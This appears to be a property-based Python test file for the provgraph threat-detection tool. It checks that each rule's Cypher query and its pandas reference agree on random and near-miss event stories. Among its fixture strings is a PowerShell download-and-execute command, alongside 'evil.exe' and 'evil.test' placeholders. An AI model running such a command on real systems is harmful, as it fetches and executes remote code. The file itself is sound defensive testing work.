"""Random event stories, near misses included: every rule's Cypher and its pandas
transcription find exactly the same matches, over the whole graph and over a sub-range.

Convention shared with the graph: a process writes one file with one operation and mask
(a WROTE edge keeps those as sets, not per time; see build_process_compromise's notes).
"""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from provgraph.graph.loader import write_events
from provgraph.graph.tx import Graph
from provgraph.queries.examples import BASE, events_from_specs
from provgraph.queries.reference import build_model, events_frame
from provgraph.queries.rule import load_rules

from .oracle import graph_and_reference

RULES = load_rules().rules
WIPE = "MATCH (n) DETACH DELETE n"

IMAGES = [
    "C:\\Windows\\MSBuild.exe",
    "C:\\dotnet\\dotnet.exe",
    "C:\\VBCSCompiler.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\ps\\powershell.exe",
    "C:\\VS\\devenv.exe",
    "C:\\node\\node.exe",
    "C:\\node\\npm.cmd",
    "/usr/bin/python3",
    "/bin/bash",
    "/usr/bin/docker",
    "/usr/bin/dockerd",
    "C:\\notepad.exe",
    "C:\\git\\git.exe",
    "C:\\Users\\x\\evil.exe",
    "C:\\curl.exe",
    "/usr/lib/systemd/systemd",
]
COMMANDS = [
    None,
    "",
    "msbuild C:\\Windows\\Tasks\\x.xml",
    "npm install pkg",
    "powershell -c IEX(New-Object Net.WebClient).DownloadString('x')",
    "docker build --no-cache -t a /tmp/ctx",
    "docker image build -f https://x.test/D .",
    "docker build -t a .",
    "docker buildx-thing /tmp/",
    "python -c 'import os'",
    "cmd /c node setup.js",
]
PATHS = [
    "C:\\src\\a.cs",
    "C:\\src\\B.CPP",
    "C:\\src\\c.txt",
    "/repo/.github/workflows/ci.yml",
    "C:\\repo\\.github\\workflows\\x.yml",
    "/repo/Makefile",
    "/tmp/Dockerfile",
    "/tmp/app.Dockerfile",
    "/home/u/Dockerfile",
    "C:\\Users\\x\\AppData\\Local\\Temp\\t.cs",
]
OPS_MASKS = [
    ("create", None),
    ("modify", "0x6"),
    ("modify", "0x2"),
    ("modify", "0X100"),
    ("modify", "0x4"),
    ("delete", None),
    ("rename", None),
]
ENDPOINTS = [
    ("127.0.0.1", 80, None),
    ("127.0.0.2", 443, None),
    ("::1", 443, None),
    ("10.0.0.5", 443, None),
    ("23.192.0.9", 443, "registry.example"),
    ("23.192.0.10", 8080, "cdn.registry.example"),
    ("2600::1", 443, "evil.test"),
    ("23.192.0.11", 4873, None),
    ("203.0.113.7", 80, None),
]
DELTAS = [-1, 0, 1, 150, 299, 300, 301, 900, 86_400, 500_000]


@st.composite
def stories(draw: Any) -> list[dict[str, Any]]:
    count = draw(st.integers(2, 9))
    procs = []
    for i in range(count):
        host = draw(st.sampled_from(["h1", "h1", "h1", "h2"]))
        # A parent runs on its child's host (a process GUID names one process on one host).
        same_host = [j for j in range(i) if procs[j]["host"] == host]
        procs.append(
            {
                "uid": f"p{i}",
                "host": host,
                "image": draw(st.sampled_from(IMAGES + IMAGES[:1] * 4 + IMAGES[3:4] * 2)),
                "command_line": draw(st.sampled_from(COMMANDS)),
                # starts cluster near 0, with a few at the edge of the 5-day new-terms history
                "start": draw(
                    st.one_of(
                        st.none(), st.integers(0, 600), st.sampled_from([431_999, 432_000, 432_001])
                    )
                ),
                "parent": draw(st.one_of(st.none(), st.sampled_from(same_host)))
                if same_host
                else None,
            }
        )
    events: list[dict[str, Any]] = []
    for proc in procs:
        if proc["start"] is None:
            continue
        spec = {
            "kind": "process_start",
            "t": proc["start"],
            "host": proc["host"],
            "uid": proc["uid"],
            "image": proc["image"],
            "command_line": proc["command_line"],
            "user": "CORP\\dev",
        }
        if proc["parent"] is not None:
            parent = procs[proc["parent"]]
            spec["parent"] = {
                "uid": parent["uid"],
                "image": parent["image"],
                "command_line": parent["command_line"],
            }
        events.append(spec)
    anchors = [p["start"] for p in procs if p["start"] is not None] or [0]
    for _ in range(draw(st.integers(0, 6))):  # file writes, near the anchors
        proc = draw(st.sampled_from(procs))
        path = draw(st.sampled_from(PATHS + PATHS[:1] * 3))
        op, mask = (
            OPS_MASKS[sum(map(ord, proc["uid"] + path)) % len(OPS_MASKS)]
            if draw(st.booleans())
            else draw(st.sampled_from(OPS_MASKS))
        )
        # one op and mask per (process, file): reuse the first drawn for the pair
        for earlier in events:
            if earlier.get("uid") == proc["uid"] and earlier.get("path") == path:
                op, mask = earlier["op"], earlier.get("mask")
        t = draw(st.sampled_from(anchors)) + draw(st.sampled_from(DELTAS))
        events.append(
            {
                "kind": "file_write",
                "t": t,
                "host": proc["host"],
                "uid": proc["uid"],
                "image": proc["image"],
                "path": path,
                "op": op,
                "mask": mask,
            }
        )
    for _ in range(draw(st.integers(0, 5))):  # connections
        proc = draw(st.sampled_from(procs))
        ip, port, hostname = draw(st.sampled_from(ENDPOINTS))
        t = draw(st.sampled_from(anchors)) + draw(st.sampled_from(DELTAS[:6]))
        events.append(
            {
                "kind": "network_connect",
                "t": t,
                "host": proc["host"],
                "uid": proc["uid"],
                "image": proc["image"],
                "ip": ip,
                "port": port,
                "hostname": hostname,
            }
        )
    return events


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    story=stories(),
    window=st.tuples(st.integers(-10, 700), st.integers(0, 600)),
    allow=st.sampled_from([[], ["registry.example"], ["*.registry.example"]]),
)
def test_cypher_and_reference_agree(
    graph: Graph, story: list[dict[str, Any]], window: tuple[int, int], allow: list[str]
) -> None:
    graph.write(WIPE)
    events = events_from_specs(story)
    write_events(graph, events)
    model = build_model(events_frame(events))
    since = BASE + timedelta(seconds=window[0])
    until = since + timedelta(seconds=window[1])
    for rule in RULES:
        overrides = (
            {"registry_allow_list": allow} if "registry_allow_list" in rule.parameters else {}
        )
        for bounds in ((None, None), (since, until)):
            cypher, reference = graph_and_reference(graph, rule, model, *bounds, **overrides)
            assert cypher == reference, (rule.id, bounds, cypher ^ reference)


def _spawn(uid: str, t: int, host: str = "h1") -> list[dict[str, Any]]:
    return [
        {
            "kind": "process_start",
            "t": t,
            "host": host,
            "uid": uid,
            "image": "C:\\MSBuild.exe",
            "parent": {"uid": "c" + uid, "image": "C:\\cmd.exe"},
        }
    ]


NEAR_MISSES = [
    # (rule, events, expected matches)
    (
        "build_process_compromise",
        [  # write one second before the build: no
            {
                "kind": "process_start",
                "t": 10,
                "host": "h1",
                "uid": "b",
                "image": "C:\\MSBuild.exe",
            },
            {
                "kind": "file_write",
                "t": 9,
                "host": "h1",
                "uid": "e",
                "image": "C:\\e.exe",
                "path": "C:\\a.cs",
            },
        ],
        0,
    ),
    (
        "build_process_compromise",
        [  # exactly 5 minutes after: yes (window is inclusive)
            {
                "kind": "process_start",
                "t": 10,
                "host": "h1",
                "uid": "b",
                "image": "C:\\MSBuild.exe",
            },
            {
                "kind": "file_write",
                "t": 310,
                "host": "h1",
                "uid": "e",
                "image": "C:\\e.exe",
                "path": "C:\\a.cs",
            },
        ],
        1,
    ),
    (
        "build_process_compromise",
        [  # straddles a 5-minute bin: the KQL misses it, we do not
            {
                "kind": "process_start",
                "t": 299,
                "host": "h1",
                "uid": "b",
                "image": "C:\\MSBuild.exe",
            },
            {
                "kind": "file_write",
                "t": 301,
                "host": "h1",
                "uid": "e",
                "image": "C:\\e.exe",
                "path": "C:\\a.cs",
                "op": "modify",
                "mask": "0X100",
            },
        ],
        1,
    ),
    (
        "build_process_compromise",
        [  # other host: no
            {"kind": "process_start", "t": 0, "host": "h1", "uid": "b", "image": "C:\\MSBuild.exe"},
            {
                "kind": "file_write",
                "t": 5,
                "host": "h2",
                "uid": "e",
                "image": "C:\\e.exe",
                "path": "C:\\a.cs",
            },
        ],
        0,
    ),
    (
        "build_process_compromise",
        [  # a read-ish mask (WriteData alone is not in the seed): no
            {"kind": "process_start", "t": 0, "host": "h1", "uid": "b", "image": "C:\\MSBuild.exe"},
            {
                "kind": "file_write",
                "t": 5,
                "host": "h1",
                "uid": "e",
                "image": "C:\\e.exe",
                "path": "C:\\a.cs",
                "op": "modify",
                "mask": "0x2",
            },
        ],
        0,
    ),
    (
        "msbuild_script_parent",
        [  # exactly 5 days later: still inside the history, not new
            *_spawn("m1", 0),
            *_spawn("m2", 432_000),
        ],
        1,
    ),
    (
        "msbuild_script_parent",
        [  # 5 days and a second later: new again
            *_spawn("m1", 0),
            *_spawn("m2", 432_001),
        ],
        2,
    ),
    (
        "msbuild_script_parent",
        [  # the other host is its own term
            *_spawn("m1", 0),
            *_spawn("m2", 10, "h2"),
        ],
        2,
    ),
    (
        "msbuild_network",
        [  # 127.0.0.2 is loopback too
            {"kind": "process_start", "t": 0, "host": "h1", "uid": "m", "image": "C:\\MSBuild.exe"},
            {
                "kind": "network_connect",
                "t": 1,
                "host": "h1",
                "uid": "m",
                "image": "C:\\MSBuild.exe",
                "ip": "127.0.0.2",
                "port": 80,
            },
        ],
        0,
    ),
    (
        "msbuild_network",
        [  # a connection with no start seen: EQL's sequence needs the start
            {
                "kind": "network_connect",
                "t": 1,
                "host": "h1",
                "uid": "m",
                "image": "C:\\MSBuild.exe",
                "ip": "10.0.0.9",
                "port": 80,
            }
        ],
        0,
    ),
]


def test_near_misses(graph: Graph) -> None:
    rules = {r.id: r for r in RULES}
    for rule_id, story, expected in NEAR_MISSES:
        graph.write(WIPE)
        events = events_from_specs(story)
        write_events(graph, events)
        cypher, reference = graph_and_reference(
            graph, rules[rule_id], build_model(events_frame(events))
        )
        assert len(cypher) == len(reference) == expected, (rule_id, story)


def test_allow_listed_editor_is_silent(graph: Graph) -> None:
    rule = next(r for r in RULES if r.id == "build_process_compromise")
    events = events_from_specs(NEAR_MISSES[1][1])
    write_events(graph, events)
    model = build_model(events_frame(events))
    cypher, reference = graph_and_reference(graph, rule, model, allow_list=["E.exe"])
    assert cypher == reference == set()
